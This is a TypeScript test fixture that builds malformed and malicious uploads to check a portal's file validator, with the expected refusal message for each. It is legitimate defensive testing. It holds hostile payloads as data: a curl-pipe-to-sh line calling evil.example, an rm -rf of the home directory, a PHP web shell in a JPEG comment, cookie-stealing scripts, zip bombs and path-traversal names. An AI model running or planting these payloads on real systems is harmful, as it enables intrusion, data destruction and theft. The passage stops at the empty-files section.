/**
 * The hostile-upload generator: malformed and malicious files built in memory, deterministically
 * from a seed (the same seed gives the same files, byte for byte). Each has a category, a
 * description, the name it is uploaded as, and the refusal messages (from `messages` in
 * app/lib/uploads.server.ts) that would be a right answer. Also the good files that must be accepted.
 */
import { deflateRawSync } from "node:zlib";
import { messages } from "../../app/lib/uploads.server";
import * as f from "../support/files";
import { prng } from "../../scripts/lib/random";

export type HostileFile = {
  id: string;
  category: string;
  description: string;
  /** The file name as the person's computer has it (sent as filename="…", percent-encoding " CR LF as browsers do). */
  name: string;
  /** Sent as filename*=UTF-8''… instead, exactly as given (already percent-encoded). */
  filenameStar?: string;
  bytes: Buffer;
  /** More files in the same "file" field (to send several at once). */
  extra?: { name: string; bytes: Buffer }[];
  /** Right answers: one of these in the error summary. */
  expect: string[];
};

export type GoodFile = { id: string; description: string; name: string; bytes: Buffer; mediaType: string };


const IMAGE_DAMAGED = messages.imageDamaged;

const b = (s: string) => Buffer.from(s, "latin1");
const u8 = (s: string) => Buffer.from(s, "utf8");
const cat = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((p) => (typeof p === "string" ? b(p) : p)));
const pad = (head: Buffer, length: number, fill = 0) => Buffer.concat([head, Buffer.alloc(Math.max(0, length - head.length), fill)]);

/** Files of formats the portal does not take, each as its magic bytes would have it. */
function foreignFormats(random: () => number): { key: string; what: string; bytes: Buffer; expect: string[] }[] {
  const noise = (n: number) => Buffer.from(Array.from({ length: n }, () => Math.floor(random() * 256)));
  const riff = (form: string, body: Buffer) => {
    const h = Buffer.alloc(12);
    h.write("RIFF", 0, "latin1");
    h.writeUInt32LE(body.length + 4, 4);
    h.write(form, 8, "latin1");
    return Buffer.concat([h, body]);
  };
  const not = [messages.notAllowed];
  const list: { key: string; what: string; bytes: Buffer; expect: string[] }[] = [
    { key: "gif", what: "a GIF image", bytes: cat("GIF89a", Buffer.from([2, 0, 2, 0, 0x80, 0, 0]), noise(64), "\x3b"), expect: not },
    { key: "gif87", what: "a GIF87a image", bytes: cat("GIF87a", Buffer.from([1, 0, 1, 0, 0, 0, 0]), noise(32)), expect: not },
    { key: "bmp", what: "a BMP image", bytes: pad(cat("BM", Buffer.from([0x46, 0, 0, 0, 0, 0, 0, 0, 0x36, 0, 0, 0, 0x28, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 24, 0])), 70), expect: not },
    { key: "tiff-le", what: "a TIFF image (little-endian)", bytes: pad(cat("II*\0", Buffer.from([8, 0, 0, 0, 0, 0])), 64), expect: not },
    { key: "tiff-be", what: "a TIFF image (big-endian)", bytes: pad(cat("MM\0*", Buffer.from([0, 0, 0, 8, 0, 0])), 64), expect: not },
    { key: "webp", what: "a WebP image", bytes: riff("WEBP", cat("VP8 ", Buffer.from([10, 0, 0, 0]), noise(10))), expect: not },
    { key: "ico", what: "a Windows icon", bytes: pad(Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0, 0x68, 4, 0, 0, 22, 0, 0, 0]), 128), expect: not },
    { key: "psd", what: "a Photoshop document", bytes: pad(cat("8BPS", Buffer.from([0, 1])), 64), expect: not },
    { key: "heic", what: "an HEIC photo", bytes: pad(cat(Buffer.from([0, 0, 0, 0x18]), "ftypheic", Buffer.from([0, 0, 0, 0]), "mif1heic"), 64), expect: not },
    { key: "zip", what: "a plain ZIP archive", bytes: f.plainZip(), expect: not },
    { key: "rar", what: "a RAR archive", bytes: pad(cat("Rar!\x1a\x07\x01\x00"), 64), expect: not },
    { key: "7z", what: "a 7-Zip archive", bytes: pad(cat("7z\xbc\xaf\x27\x1c\x00\x04"), 64), expect: not },
    { key: "gzip", what: "a gzip file", bytes: cat(Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), deflateRawSync(u8("hidden payload")), Buffer.alloc(8)), expect: not },
    { key: "bzip2", what: "a bzip2 file", bytes: pad(cat("BZh91AY&SY"), 64), expect: not },
    { key: "xz", what: "an xz file", bytes: pad(cat("\xfd7zXZ\x00"), 64), expect: not },
    { key: "zstd", what: "a Zstandard file", bytes: pad(Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), 64), expect: not },
    { key: "cab", what: "a Windows cabinet", bytes: pad(cat("MSCF\0\0\0\0"), 64), expect: not },
    { key: "sqlite", what: "an SQLite database", bytes: pad(cat("SQLite format 3\0"), 512), expect: not },
    { key: "class", what: "a Java class file", bytes: pad(Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]), 64), expect: not },
    { key: "wasm", what: "a WebAssembly module", bytes: pad(Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), 32), expect: not },
    { key: "flac", what: "a FLAC recording", bytes: pad(cat("fLaC\0\0\0\x22"), 64), expect: not },
    { key: "ogg", what: "an Ogg recording", bytes: pad(cat("OggS\0\x02", Buffer.alloc(20), "\x01vorbis"), 64), expect: not },
    { key: "wav", what: "a WAV recording", bytes: riff("WAVE", cat("fmt ", Buffer.from([16, 0, 0, 0, 1, 0, 1, 0, 0x44, 0xac, 0, 0, 0x88, 0x58, 1, 0, 2, 0, 16, 0]), "data", Buffer.alloc(4))), expect: not },
    { key: "avi", what: "an AVI video", bytes: riff("AVI ", pad(cat("LIST"), 64)), expect: not },
    { key: "mkv", what: "a Matroska video", bytes: pad(Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x93, 0x42, 0x82, 0x88, ...b("matroska")]), 64), expect: not },
    { key: "webm", what: "a WebM video", bytes: pad(Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84, ...b("webm")]), 64), expect: not },
    { key: "mp4-video", what: "an MP4 video", bytes: f.mp4(["mp42", "isom"], ["vide", "soun"]), expect: [messages.video] },
    { key: "mov", what: "a QuickTime video", bytes: f.mp4(["qt  "], ["vide"]), expect: [messages.video, messages.notAllowed] },
    { key: "flv", what: "a Flash video", bytes: pad(cat("FLV\x01\x05\0\0\0\x09"), 64), expect: not },
    { key: "swf", what: "a Flash movie", bytes: pad(cat("FWS\x0a"), 64), expect: not },
    { key: "rtf", what: "an RTF document", bytes: u8("{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 Hello\\par}"), expect: not },
    { key: "ole-doc", what: "an old Word document (OLE compound file)", bytes: pad(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 512), expect: not },
    { key: "elf", what: "a Linux executable", bytes: f.elf(), expect: not },
    { key: "pe", what: "a Windows executable", bytes: f.windowsExe(), expect: not },
    { key: "macho", what: "a macOS executable (Mach-O)", bytes: pad(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0]), 256), expect: not },
    { key: "ps", what: "a PostScript file", bytes: cat("%!PS-Adobe-3.0\n", "\x04", "%%EOF\n"), expect: not },
    { key: "epub", what: "an EPUB e-book", bytes: f.zip([{ name: "mimetype", data: "application/epub+zip", store: true }, { name: "META-INF/container.xml", data: "<container/>" }]), expect: not },
    { key: "xlsx", what: "an Excel workbook", bytes: f.zip([{ name: "[Content_Types].xml", data: '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>' }, { name: "xl/workbook.xml", data: "<workbook/>" }]), expect: not },
    { key: "ods", what: "an OpenDocument spreadsheet", bytes: f.zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.spreadsheet", store: true }, { name: "content.xml", data: "<office:document-content/>" }]), expect: not },
  ];
  return list;
}

const CLAIMED = ["account.pdf", "account.docx", "record.odt", "diagram.png", "photo.jpg", "notes.txt", "discussion.mp3", "discussion.m4a"];

/** A stored PNG with chunks as given (signature first). */
const pngOf = (...chunks: Buffer[]) => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), ...chunks]);

const CT = (main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", extra = "") =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/>${extra}</Types>`;
const docxWith = (entries: f.ZipInput[], main?: string, extraTypes?: string) => f.zip([{ name: "[Content_Types].xml", data: CT(main, extraTypes) }, { name: "word/document.xml", data: f.documentXml(["Hostile"]) }, ...entries]);

/**
 * At least 500 hostile files (fewer with `quick`), deterministic for a seed. `maxUploadBytes` is
 * the portal's MAX_UPLOAD_MB in bytes, for the files just over it.
 */
export function hostileFiles(o: { seed: number; maxUploadBytes: number; quick?: boolean }): HostileFile[] {
  const random = prng(o.seed);
  const out: HostileFile[] = [];
  const add = (category: string, description: string, name: string, bytes: Buffer, expect: string[], more: Partial<HostileFile> = {}) =>
    out.push({ id: `${category}-${String(out.length + 1).padStart(3, "0")}`, category, description, name, bytes, expect, ...more });
  const not = [messages.notAllowed];
  const ext = (name: string) => name.slice(name.lastIndexOf("."));

  // 1. Wrong magic bytes for the name: other formats, named as each accepted type.
  for (const foreign of foreignFormats(random)) for (const name of CLAIMED) add("wrong-magic", `${foreign.what} named ${ext(name)}`, name, foreign.bytes, foreign.expect);

  // 2. Executables and scripts renamed as documents.
  const scripts: [string, Buffer][] = [
    ["a shell script", u8("#!/bin/sh\ncurl -s http://evil.example/x | sh\n")],
    ["a bash script with CRLF line ends", u8("#!/bin/bash\r\nrm -rf \"$HOME\"\r\n")],
    ["a Python script", u8("#!/usr/bin/env python3\nimport os\nos.system('id')\n")],
    ["a Perl script after a byte-order mark", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), u8("#!/usr/bin/perl\nsystem('id');\n")])],
    ["a script with a space before its interpreter", u8("#! /bin/sh\necho owned\n")],
  ];
  const binaries: [string, Buffer][] = [
    ["a Linux executable", f.elf()],
    ["a 32-bit ARM Linux executable", (() => { const x = f.elf(); x[4] = 1; x.writeUInt16LE(0x28, 18); return x; })()],
    ["a Linux shared library", (() => { const x = f.elf(); x.writeUInt16LE(3, 16); return x; })()],
    ["a Windows executable", f.windowsExe()],
    ["a Windows DLL", (() => { const x = f.windowsExe(); x.writeUInt16LE(0x2102, 0x96); return x; })()],
    ["a DOS executable (MZ only)", pad(cat("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff"), 256)],
    ["a Mach-O universal binary", pad(Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2, 1, 0, 0, 7]), 256)],
  ];
  for (const [what, bytes] of [...scripts, ...binaries]) for (const name of ["account.pdf", "notes.txt", "account.docx"]) add("executable", `${what} named ${name}`, name, bytes, not);

  // 3. Truncated files: cut at points through the file.
  const cuts = [0.05, 0.15, 0.3, 0.5, 0.7, 0.85, 0.95, 0.99];
  const longPdf = f.pdf("A longer page of text so that the cuts fall at many different places in the file, from the header to the trailer");
  for (const c of cuts) add("truncated", `a PDF cut to ${Math.round(c * 100)}% (${Math.floor(longPdf.length * c)} of ${longPdf.length} bytes)`, "account.pdf", longPdf.subarray(0, Math.max(16, Math.floor(longPdf.length * c))), [messages.pdfDamaged]);
  add("truncated", "a PDF with its final %%EOF cut off", "account.pdf", longPdf.subarray(0, longPdf.lastIndexOf("%%EOF")), [messages.pdfDamaged]);
  add("truncated", "a PDF cut inside its final %%EOF", "account.pdf", longPdf.subarray(0, longPdf.lastIndexOf("%%EOF") + 3), [messages.pdfDamaged]);
  const bigPng = (() => {
    const ihdr = Buffer.alloc(13);
    ihdr.writeUInt32BE(64, 0);
    ihdr.writeUInt32BE(64, 4);
    ihdr[8] = 8;
    ihdr[9] = 2;
    const rows = Buffer.from(Array.from({ length: 64 * (1 + 64 * 3) }, (_, i) => (i % 193 === 0 ? 0 : Math.floor(random() * 256))));
    return pngOf(f.pngChunk("IHDR", ihdr), f.pngChunk("IDAT", deflateRawSync(rows)), f.pngChunk("IEND", Buffer.alloc(0)));
  })();
  for (const c of cuts) add("truncated", `a PNG cut to ${Math.round(c * 100)}%`, "diagram.png", bigPng.subarray(0, Math.max(24, Math.floor(bigPng.length * c))), [IMAGE_DAMAGED]);
  const jpeg = f.jpeg();
  for (const c of [0.3, 0.6, 0.9, 0.97]) add("truncated", `a JPEG cut to ${Math.round(c * 100)}%`, "photo.jpg", jpeg.subarray(0, Math.max(12, Math.floor(jpeg.length * c))), [IMAGE_DAMAGED]);
  add("truncated", "a JPEG without its end-of-image marker", "photo.jpg", jpeg.subarray(0, jpeg.length - 2), [IMAGE_DAMAGED]);
  const docx = f.docx(["A paragraph of an account that is long enough to make the archive a few hundred bytes."]);
  for (const c of [0.2, 0.5, 0.8, 0.98]) add("truncated", `a DOCX cut to ${Math.round(c * 100)}%`, "account.docx", docx.subarray(0, Math.floor(docx.length * c)), [messages.notAllowed, messages.documentDamaged]);
  const odt = f.odt(["An observation record long enough to cut in several places."]);
  for (const c of [0.3, 0.7, 0.95]) add("truncated", `an ODT cut to ${Math.round(c * 100)}%`, "record.odt", odt.subarray(0, Math.floor(odt.length * c)), [messages.notAllowed, messages.documentDamaged]);
  const m4a = f.m4a();
  for (const c of [0.2, 0.5, 0.9]) add("truncated", `an M4A cut to ${Math.round(c * 100)}%`, "discussion.m4a", m4a.subarray(0, Math.floor(m4a.length * c)), [messages.audioDamaged, messages.notAllowed]);

  // 4. Corrupt files: right magic, broken inside.
  const garbage = (n: number) => Buffer.from(Array.from({ length: n }, () => Math.floor(random() * 256)));
  add("corrupt", "a PDF header followed by random bytes (no %%EOF)", "account.pdf", cat("%PDF-1.7\n", garbage(2000)), [messages.pdfDamaged]);
  add("corrupt", "a PDF header, random bytes, then %%EOF with no cross-reference", "account.pdf", cat("%PDF-1.7\n", garbage(2000), "\n%%EOF\n"), [messages.pdfDamaged]);
  add("corrupt", "a PDF whose startxref points outside the file", "account.pdf", cat(longPdf.subarray(0, longPdf.lastIndexOf("startxref")), "startxref\n99999999\n%%EOF\n"), [messages.pdfDamaged]);
  add("corrupt", "a PDF whose startxref points at random bytes", "account.pdf", cat("%PDF-1.4\n", garbage(600), "\nstartxref\n20\n%%EOF\n"), [messages.pdfDamaged]);
  add("corrupt", "a PDF header with nothing else", "account.pdf", b("%PDF-1.4\n%%EOF\n"), [messages.pdfDamaged]);
  add("corrupt", "a PNG whose header chunk fails its CRC", "diagram.png", (() => { const x = Buffer.from(bigPng); x[29] ^= 0xff; return x; })(), [IMAGE_DAMAGED]);
  add("corrupt", "a PNG whose image data fails its CRC", "diagram.png", (() => { const x = Buffer.from(bigPng); x[60] ^= 0x55; return x; })(), [IMAGE_DAMAGED]);
  add("corrupt", "a PNG with a chunk length past the end of the file", "diagram.png", (() => { const x = Buffer.from(bigPng); x.writeUInt32BE(0x7fffffff, 33); return x; })(), [IMAGE_DAMAGED]);
  add("corrupt", "a PNG signature followed by random bytes", "diagram.png", cat(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), garbage(400)), [IMAGE_DAMAGED, messages.notAllowed]);
  add("corrupt", "a JPEG start marker followed by random bytes", "photo.jpg", cat(Buffer.from([0xff, 0xd8, 0xff]), garbage(400)), [IMAGE_DAMAGED]);
  add("corrupt", "a damaged DOCX (bad CRC)", "account.docx", f.corruptDocx(), [messages.documentDamaged]);
  add("corrupt", "a DOCX whose stored entry's sizes disagree", "account.docx", docxWith([{ name: "word/styles.xml", data: "<styles/>", store: true, declaredSize: 5 }]), [messages.documentDamaged]);
  add("corrupt", "a DOCX with an entry compressed by an unsupported method", "account.docx", (() => { const x = docxWith([]); const cd = x.indexOf(Buffer.from([0x50, 0x4b, 1, 2])); x.writeUInt16LE(14, cd + 10); return x; })(), [messages.documentDamaged]);
  add("corrupt", "a DOCX with the same entry twice", "account.docx", docxWith([{ name: "word/document.xml", data: f.documentXml(["Twice"]) }]), [messages.documentDamaged]);
  add("corrupt", "a DOCX whose central directory points outside the file", "account.docx", (() => { const x = docxWith([]); x.writeUInt32LE(x.length * 4, x.length - 6); return x; })(), [messages.documentDamaged, messages.notAllowed]);
  add("corrupt", "a DOCX without [Content_Types].xml", "account.docx", f.zip([{ name: "word/document.xml", data: f.documentXml(["x"]) }]), not);
  add("corrupt", "a DOCX without word/document.xml", "account.docx", f.zip([{ name: "[Content_Types].xml", data: CT() }]), not);
  add("corrupt", "a DOCX whose content types name no Word document", "account.docx", docxWith([], "application/xml"), not);
  add("corrupt", "a password-protected DOCX", "account.docx", f.encryptedDocx(), [messages.documentEncrypted]);
  add("corrupt", "a DOCX with one encrypted entry (strong encryption flag)", "account.docx", docxWith([{ name: "word/styles.xml", data: "<styles/>", flags: 0x41 }]), [messages.documentEncrypted]);
  add("odt", "an ODT with no mimetype entry", "record.odt", f.zip([{ name: "content.xml", data: "<office:document-content/>" }]), not);
  add("odt", "an ODT whose mimetype is a spreadsheet's", "record.odt", f.zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.spreadsheet", store: true }, { name: "content.xml", data: "<c/>" }]), not);
  add("odt", "an ODT whose mimetype has a trailing line break", "record.odt", f.zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text\n", store: true }, { name: "content.xml", data: "<c/>" }]), not);
  add("odt", "an ODT whose mimetype entry is 200 bytes long", "record.odt", f.zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text" + " ".repeat(161), store: true }, { name: "content.xml", data: "<c/>" }]), not);
  add("odt", "an ODT whose mimetype is empty", "record.odt", f.zip([{ name: "mimetype", data: "", store: true }, { name: "content.xml", data: "<c/>" }]), not);
  add("odt", "an ODT without content.xml", "record.odt", f.zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text", store: true }]), not);
  add("odt", "an ODT with Basic macros", "record.odt", f.zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text", store: true }, { name: "content.xml", data: "<c/>" }, { name: "Basic/Standard/Module1.xml", data: "<script:module/>" }]), [messages.documentMacros]);
  add("odt", "an ODT with scripts", "record.odt", f.zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text", store: true }, { name: "content.xml", data: "<c/>" }, { name: "Scripts/python/evil.py", data: "import os" }]), [messages.documentMacros]);
  add("odt", "an ODT whose mimetype entry is encrypted", "record.odt", f.zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text", store: true, flags: 1 }, { name: "content.xml", data: "<c/>" }]), [messages.documentEncrypted]);
  add("audio", "an M4A without a movie box", "discussion.m4a", cat(f.mp4(["M4A "], []).subarray(0, 24), Buffer.from([0, 0, 0, 16]), "mdat", Buffer.alloc(8)), [messages.audioDamaged]);
  add("audio", "an M4A whose box size runs past the end", "discussion.m4a", (() => { const x = Buffer.from(f.m4a()); x.writeUInt32BE(0x00ffffff, x.readUInt32BE(0)); return x; })(), [messages.audioDamaged]);
  add("audio", "an M4A with a zero-length box", "discussion.m4a", (() => { const x = Buffer.from(f.m4a()); x.writeUInt32BE(4, x.readUInt32BE(0)); return x; })(), [messages.audioDamaged]);
  add("audio", "an M4A with only a video track", "discussion.m4a", f.mp4(["M4A ", "isom"], ["vide"]), [messages.video]);
  add("audio", "an M4A with no tracks at all", "discussion.m4a", f.mp4(["M4A "], []), [messages.notAllowed]);

  // 5. Macros in Word documents.
  add("macros", "a macro-enabled Word document named .docx", "account.docx", f.docm(), [messages.documentMacros]);
  for (const path of ["word/vbaProject.bin", "word/VBAPROJECT.BIN", "vbaProject.bin", "customUI/vbaProject.bin", "word/media/vbaProject.bin"])
    add("macros", `a DOCX with ${path}`, "account.docx", docxWith([{ name: path, data: garbage(128) }]), [messages.documentMacros]);
  add("macros", "a DOCX whose content types declare macroEnabled", "account.docx", docxWith([], undefined, '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject.macroEnabled"/>'), [messages.documentMacros]);

  // 6. Zip bombs.
  for (const mb of [2, 8, 40, 200]) add("zip-bomb", `a DOCX whose document inflates to ${mb} MB (honest sizes)`, "account.docx", mb <= 40 ? f.docxBomb(mb) : docxWith([{ name: "word/media/big.bin", data: Buffer.alloc(mb * 1024 * 1024) }]), [messages.documentTooLarge]);
  add("zip-bomb", "a DOCX whose document declares a small size but inflates to 3 MB", "account.docx", f.docxLyingBomb(), [messages.documentTooLarge, messages.documentDamaged]);
  add("zip-bomb", "an overlapping-entries zip bomb named .docx", "account.docx", f.overlappingZipBomb(), [messages.documentTooLarge]);
  add("zip-bomb", "a DOCX with 5,001 entries", "account.docx", docxWith(Array.from({ length: 5001 }, (_, i) => ({ name: `word/p${i}.xml`, data: "", store: true }))), [messages.documentTooLarge]);
  add("zip-bomb", "a DOCX whose entries declare 600 MB in all", "account.docx", docxWith(Array.from({ length: 6 }, (_, i) => ({ name: `word/media/m${i}.bin`, data: "x", declaredSize: 100 * 1024 * 1024 }))), [messages.documentTooLarge, messages.documentDamaged]);
  add("zip-bomb", "a DOCX declaring a ZIP64 size", "account.docx", docxWith([{ name: "word/media/z.bin", data: "x", declaredSize: 0xffffffff }]), [messages.documentTooLarge]);
  add("zip-bomb", "an ODT whose content inflates to 40 MB", "record.odt", f.zip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.text", store: true }, { name: "content.xml", data: Buffer.alloc(40 * 1024 * 1024, 0x20) }]), [messages.documentTooLarge]);
  const nested = (depth: number): Buffer => (depth === 0 ? f.docxBomb(8) : f.zip([{ name: `layer${depth}.zip`, data: nested(depth - 1), store: depth % 2 === 0 }]));
  for (const depth of [1, 2, 3]) add("zip-bomb", `a zip bomb nested ${depth} deep, named .docx`, "account.docx", nested(depth), not);
  add("zip-bomb", "a DOCX whose document part is itself a zip bomb", "account.docx", f.zip([{ name: "[Content_Types].xml", data: CT() }, { name: "word/document.xml", data: f.docxBomb(40) }, { name: "word/x.bin", data: Buffer.alloc(30 * 1024 * 1024) }]), [messages.documentTooLarge]);

  // 7. Markup: HTML and SVG, named as text or documents.
  const markup: [string, Buffer][] = [
    ["an HTML page", f.html()],
    ["an SVG with a script", f.svg()],
    ["an SVG without an XML declaration, in capitals", u8('<SVG xmlns="http://www.w3.org/2000/svg"><SCRIPT>alert(1)</SCRIPT></SVG>')],
    ["an XHTML page", u8('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"/></html>')],
    ["an HTML page after a byte-order mark", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), u8("<html><script>alert(1)</script></html>")])],
    ["an HTML page after blank lines and tabs", u8("\n\n\t  <!DOCTYPE html><script>alert(1)</script>")],
    ["an HTML comment then a script", u8("<!-- notes --><script>alert(document.domain)</script>")],
    ["an iframe", u8('<iframe src="https://evil.example"></iframe>')],
    ["an HTML fragment starting with a div", u8("<div><img src=x onerror=alert(1)><script>alert(1)</script></div>")],
    ["a style block", u8("<style>body{background:url(javascript:alert(1))}</style>")],
    ["an XML file with a stylesheet", u8('<?xml version="1.0"?><?xml-stylesheet href="evil.xsl"?><x/>')],
    ["a MathML block", u8('<math><mtext><script>alert(1)</script></mtext></math>')],
  ];
  // (XML that file-type recognises as XML is refused as a type not allowed: either answer is right.)
  for (const [what, bytes] of markup) for (const name of ["notes.txt", "account.pdf", "diagram.png"]) add("markup", `${what} named ${name}`, name, bytes, [messages.markup, messages.notAllowed]);
  add("markup", "an HTML page in UTF-16", "notes.txt", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("<html><script>alert(1)</script></html>", "utf16le")]), [messages.notAllowed, messages.markup, messages.textEncoding, messages.audioDamaged]);

  // 8. Polyglots.
  const zipPayload = f.zip([{ name: "payload.exe", data: f.windowsExe() }, { name: "readme.txt", data: "x".repeat(3000) }]);
  add("polyglot", "PDF+ZIP: a ZIP appended after the PDF's %%EOF", "account.pdf", cat(f.pdf("PDF+ZIP"), zipPayload), [messages.pdfDamaged, messages.notAllowed]);
  add("polyglot", "PDF+ZIP: a small ZIP appended after %%EOF", "account.pdf", cat(f.pdf("PDF+small ZIP"), f.zip([{ name: "a.sh", data: "#!/bin/sh\nid\n" }])), [messages.pdfDamaged, messages.notAllowed]);
  add("polyglot", "ZIP+PDF: a ZIP with a PDF after it", "account.pdf", cat(zipPayload, f.pdf("ZIP+PDF")), not);
  add("polyglot", "PDF+HTML: a web page after %%EOF", "account.pdf", cat(f.pdf("PDF+HTML"), "<html><script>alert(1)</script></html>\n"), [messages.pdfDamaged, messages.markup, messages.notAllowed]);
  add("polyglot", "PDF+HTML: a script in a PDF comment", "account.pdf", (() => { const p = f.pdf("PDF+HTML comment"); const at = p.indexOf("\n") + 1; return cat(p.subarray(0, at), "%<html><script>alert(1)</script></html>\n", p.subarray(at)); })(), [messages.markup, messages.pdfDamaged]);
  const jpegWithComment = (text: string) => cat(jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, (text.length + 2) >> 8, (text.length + 2) & 0xff]), text, jpeg.subarray(2));
  add("polyglot", "JPEG+HTML: a web page in a JPEG comment", "photo.jpg", jpegWithComment("<html><body><script>alert(document.cookie)</script></body></html>"), [messages.markup, messages.notAllowed]);
  add("polyglot", "JPEG+HTML: a web page after the end-of-image marker", "photo.jpg", cat(jpeg, "<html><script>alert(1)</script></html>"), [messages.markup, IMAGE_DAMAGED, messages.notAllowed]);
  add("polyglot", "JPEG+PHP: PHP code in a JPEG comment", "photo.jpg", jpegWithComment("<?php system($_GET['c']); ?>"), [messages.markup, messages.notAllowed]);
  add("polyglot", "JPEG+SVG: an SVG after the image", "photo.jpg", cat(jpeg, '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), [messages.markup, IMAGE_DAMAGED, messages.notAllowed]);
  add("polyglot", "PNG+HTML: a web page in a tEXt chunk", "diagram.png", (() => { const p = f.png(); const iend = p.length - 12; return cat(p.subarray(0, iend), f.pngChunk("tEXt", u8("Comment\0<html><script>alert(1)</script></html>")), p.subarray(iend)); })(), [messages.markup, messages.notAllowed]);
  add("polyglot", "PNG+HTML: a web page after IEND", "diagram.png", cat(f.png(), "<html><script>alert(1)</script></html>"), [messages.markup, IMAGE_DAMAGED, messages.notAllowed]);
  add("polyglot", "PNG+ZIP: a ZIP after IEND", "diagram.png", cat(f.png(), zipPayload), [IMAGE_DAMAGED, messages.notAllowed]);
  for (const name of ["photo.jpg", "notes.txt", "account.pdf"]) add("polyglot", `GIF+JS: a GIF header that is also JavaScript, named ${name}`, name, cat("GIF89a/*\x0a\x00\x0a\x00\x00\x00\x00*/=1;alert(document.cookie);//", Buffer.from([0x3b])), not);
  add("polyglot", "GIF+HTML: a GIF header then a web page", "notes.txt", cat("GIF89a<html><script>alert(1)</script></html>"), not);
  add("polyglot", "MP3+HTML: a web page in an ID3 tag", "discussion.mp3", cat(f.mp3().subarray(0, 10), "<html><script>alert(1)</script></html>", f.mp3().subarray(10)), [messages.markup, messages.notAllowed, messages.audioDamaged]);

  // 9. Names: path traversal, control characters, length (the bytes are a valid PDF, different each time).
  const named = (description: string, name: string, expect: string[], more: Partial<HostileFile> = {}) => add("name", description, name, f.pdf(`Name test ${out.length}`), expect, more);
  const sep = [messages.nameSeparators];
  for (const name of ["../../etc/passwd", "../../../../etc/cron.d/x.pdf", "..\\..\\windows\\system32\\drivers\\etc\\hosts", "..\\account.pdf", "/etc/passwd", "/tmp/account.pdf", "C:\\Windows\\win.ini", "\\\\server\\share\\account.pdf", "evidence/../../account.pdf", "a/b.pdf", "./account.pdf", "....//....//account.pdf", "..%2f..%2faccount.pdf/"])
    named(`a name with a path: ${JSON.stringify(name)}`, name, sep);
  for (const encoded of ["%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%2E%2E%5C%2E%2E%5Caccount.pdf", "..%2Faccount.pdf", "%2fetc%2fshadow", "%2e%2e%2F%2e%2e%2Faccount.pdf"])
    named(`an encoded path in filename*: ${encoded}`, decodeURIComponentSafe(encoded), sep, { filenameStar: `UTF-8''${encoded}` });
  // Characters that compatibility normalisation (NFKC, and the NFKD of a download's ASCII name) turns into / or \\.
  for (const lookalike of ["..\uff0f..\uff0faccount.pdf", "..\uff3caccount.pdf", "..\ufe68account.pdf", "\uff0fetc\uff0fpasswd"])
    named(`a name with a slash look-alike (U+${[...lookalike].find((c) => c.charCodeAt(0) > 0x7f)!.codePointAt(0)!.toString(16).toUpperCase()})`, lookalike, [messages.nameSeparators, messages.nameControl]);
  for (let c = 0; c < 0x20; c++) if (c % (o.quick ? 4 : 1) === 0) named(`a name with control character U+${c.toString(16).padStart(4, "0")}`, `account${String.fromCharCode(c)}.pdf`, [messages.nameControl]);
  for (const c of [0x7f, 0x85, 0x9b, 0x200b, 0x200e, 0x200f, 0x202a, 0x202e, 0x2066, 0x2069, 0xfeff]) named(`a name with invisible or control character U+${c.toString(16).padStart(4, "0")}`, `report${String.fromCharCode(c)}fdp.exe`, [messages.nameControl]);
  named("a name with NUL before .pdf (account.exe\\0.pdf)", "account.exe\u0000.pdf", [messages.nameControl]);
  named("a name with CR LF and a header injection", "a.pdf\r\nX-Injected: 1", [messages.nameControl]);
  for (const [length, unit] of [[256, "a"], [300, "a"], [1000, "a"], [1000, "é"], [1000, "😀"], [1000, "日"]] as const)
    named(`a name of ${length} characters (${unit})`, `${unit.repeat(length - 4)}.pdf`, [messages.nameLength]);
  for (const name of [" ", "   ", ".", ".."]) named(`the name ${JSON.stringify(name)}`, name, [messages.nameEmpty]);
  named("no name at all (filename=\"\") with content", "", [messages.nameEmpty, messages.none]);

  // 10. Empty files.
